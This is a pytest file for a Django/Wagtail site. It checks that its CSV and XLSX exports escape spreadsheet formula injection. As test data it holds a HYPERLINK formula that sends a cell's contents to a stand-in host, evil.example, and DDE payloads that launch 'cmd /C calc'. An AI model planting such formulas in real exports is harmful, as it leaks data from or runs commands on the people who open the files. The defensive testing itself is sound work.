"""Every CSV the site writes is safe to open in a spreadsheet (one helper: home/csv.py)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from home.csv import from_spreadsheet, spreadsheet_safe
from tests.partners.factories import (
    AgencyFactory,
    PopulationFactory,
    ServiceFactory,
    UserFactory,
    coordinator,
    offering,
    partner,
)

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
EVIL_CONTACT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil_agency(directory):
    shelter = ServiceFactory(slug="shelter", name={"en": "Shelter", "es": "Albergue"})
    women = PopulationFactory(slug="women", name={"en": "Women", "es": "Mujeres"})
    agency = AgencyFactory(name=EVIL_NAME, short_name="EV", last_verified_on=None, contact_name=EVIL_CONTACT)
    return offering(agency, (shelter, women))


def _body(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return data.decode("utf-8-sig")


def admin_export(client, agency, **query):
    client.force_login(coordinator())
    response = client.get(reverse("partners_csv:export"), query)
    assert response.status_code == 200
    return _body(response)


def matrix_csv(client, agency, language):
    client.force_login(partner(agency))
    response = client.get(f"/{language}/{'partners' if language == 'en' else 'socios'}/matrix/csv/")
    assert response.status_code == 200
    return _body(response)


def verification_report(client, agency):
    client.force_login(coordinator())
    response = client.get(reverse("partners_verification:index"), {"export": "csv"})
    assert response.status_code == 200
    return _body(response)


def export_command(client, agency):
    out = io.StringIO()
    call_command("export_agencies", stdout=out)
    return out.getvalue()


DOWNLOADS = {
    "agency export (admin)": admin_export,
    "public agency export (admin)": lambda client, agency: admin_export(client, agency, public_only="1"),
    "matrix CSV (en)": lambda client, agency: matrix_csv(client, agency, "en"),
    "matrix CSV (es)": lambda client, agency: matrix_csv(client, agency, "es"),
    "entries to re-verify report": verification_report,
    "export_agencies command": export_command,
}


@pytest.mark.parametrize("download", DOWNLOADS.values(), ids=DOWNLOADS.keys())
def test_every_csv_download_escapes_would_be_formulas(client, evil_agency, download):
    cells = [cell for row in csv.reader(io.StringIO(download(client, evil_agency))) for cell in row]
    assert "'" + EVIL_NAME in cells
    assert EVIL_NAME not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell != "-"], cells


def test_partner_only_columns_of_the_report_are_escaped_too(client, evil_agency):
    text = verification_report(client, evil_agency)
    assert "'" + EVIL_CONTACT in [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_reports_xlsx_keeps_the_name_as_text_not_a_formula(client, evil_agency):
    client.force_login(coordinator())
    response = client.get(reverse("partners_verification:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL_NAME]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width equals sign
        ("+1 555 0100", "+1 555 0100"),  # a phone number stays a phone number
        ("-3.5", "-3.5"),
        ("Harbor Shelter", "Harbor Shelter"),
        (None, ""),
        ("'=1+1", "'=1+1"),  # already safe: not escaped twice
    ],
)
def test_spreadsheet_safe_and_the_import_undoes_it(value, safe):
    assert spreadsheet_safe(value) == safe
    if value is not None and not value.startswith("'"):
        assert from_spreadsheet(spreadsheet_safe(value)) == value


def test_wagtails_own_report_exports_are_escaped_too(client, evil_agency):
    """The site history lists what partners named (agencies, page titles): Wagtail writes that CSV."""
    from wagtail.log_actions import log

    log(evil_agency, "wagtail.edit")
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(_body(response))) for cell in row]
    assert "'" + EVIL_NAME in cells and EVIL_NAME not in cells
